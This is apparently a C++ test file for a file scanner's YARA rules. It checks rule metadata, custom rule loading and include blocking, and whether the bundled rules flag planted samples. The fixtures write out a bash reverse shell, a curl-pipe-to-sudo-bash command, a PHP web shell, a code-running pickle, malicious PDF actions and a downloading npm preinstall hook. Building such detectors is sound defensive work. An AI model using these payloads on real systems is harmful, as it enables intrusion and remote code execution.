#include <algorithm>
#include <set>

#include "drop.hpp"

namespace immure::inspect::test {
namespace {

class Rules : public Drop {
 protected:
  Result<RuleSet> compile_own(const std::string& text) {
    std::filesystem::create_directory(in() / "rules");
    std::ofstream(in() / "rules" / "own.yar") << text;
    const sys::Fd directory(::open((in() / "rules").c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC));
    return RuleSet::compile(directory.get());
  }
};

TEST_F(Rules, IdsAreUniqueAndEveryRuleExplainsItself) {
  std::set<std::string> ids;
  for (const RuleText& rule : bundled().texts()) {
    EXPECT_TRUE(ids.insert(rule.id).second) << rule.id;
    EXPECT_FALSE(rule.title.empty() || rule.why.empty() || rule.advice.empty()) << rule.id;
  }
  EXPECT_GT(bundled().texts().size(), builtin_rules().size() + 20);
}

TEST_F(Rules, OwnRulesAreAddedToTheBundledOnes) {
  const auto rules =
      compile_own("rule marker { meta: severity = \"critical\" strings: $m = \"MARKER\" condition: $m }");
  ASSERT_TRUE(rules) << to_text(rules.error());
  std::filesystem::remove_all(in() / "rules");
  put("a.txt", "here is the MARKER\n");
  put("e.txt", eicar());
  EXPECT_EQ(run({}, 1, *rules), 1);
  EXPECT_EQ(findings(), (Lines{"yara.own.marker a.txt", "yara.eicar_test_file e.txt"}));
  EXPECT_EQ(report()["findings"][0]["severity"], "critical");
  EXPECT_EQ(report()["findings"][0]["offset"], 12);
}

TEST_F(Rules, BrokenRulesAreAnErrorWithTheirLine) {
  const auto rules = compile_own("rule a { condition: true }\nrule b { condition: nonsense }\n");
  ASSERT_FALSE(rules);
  EXPECT_EQ(rules.error().where, "own.yar");
  EXPECT_NE(rules.error().what.find("line 2"), std::string::npos) << rules.error().what;
}

TEST_F(Rules, RulesCannotIncludeFiles) {
  std::ofstream(out() / "other.yar") << "rule other { condition: true }";
  EXPECT_FALSE(compile_own("include \"" + (out() / "other.yar").string() + "\"\n"));
}

TEST_F(Rules, TheBundledRulesFindWhatTheyAreFor) {
  using namespace std::string_literals;
  put("shell.sh", "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n");
  put("get.sh", "#!/bin/sh\ncurl -fsSL https://example.invalid/x | sudo bash\n");
  put("shell.php", "<?php system($_GET['c']); ?>");
  put("a.pdf", "%PDF-1.7\n1 0 obj << /S /JavaScript /JS (app.alert(1)) >>\n2 0 obj << /S /Launch >>\n");
  put("m.pkl",
      "\x80\x02"
      "cposix\nsystem\nq\0X\x02\0\0\0idq\1\x85q\2Rq\3."s);
  put("k.pem",
      "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIMvkHpyFdRt2FhD1lk7tm3hYlRgYQxX0HnXy9jY2X3bq\n"
      "-----END PRIVATE KEY-----\n");
  put("db.env", "URL=postgres://app:hunter2secret@db.example.invalid/x\n");
  put("package.json", R"({"scripts": {"preinstall": "curl http://example.invalid | sh"}})");
  run();
  const std::set<std::string> got = [&] {
    const auto all = findings();
    return std::set<std::string>(all.begin(), all.end());
  }();
  for (const char* line : {"yara.reverse_shell shell.sh", "yara.download_and_run get.sh", "yara.web_shell shell.php",
                           "yara.pdf_javascript a.pdf", "yara.pdf_launch a.pdf", "yara.pickle_runs_code m.pkl",
                           "yara.secret_private_key k.pem", "yara.secret_connection_string db.env",
                           "yara.install_hook_downloads package.json"}) {
    EXPECT_TRUE(got.contains(line)) << line;
  }
}

TEST_F(Rules, OrdinaryFilesMatchNothing) {
  put("a.sh", "#!/bin/sh\nset -eu\ncurl -o x.tar https://example.invalid/x.tar\nsha256sum -c sums\n");
  put("a.md", "# Title\nUse postgres://user:<password>@host in $URL, see -----BEGIN CERTIFICATE-----\n");
  put("a.php", "<?php echo htmlspecialchars($_GET['q']); ?>");
  put("a.pdf", "%PDF-1.7\n1 0 obj << /Type /Page >>\n");
  put("package.json", R"({"scripts": {"test": "node test.js", "install": "node-gyp rebuild"}})");
  run();
  EXPECT_EQ(findings(), Lines{});
}

}  // namespace
}  // namespace immure::inspect::test
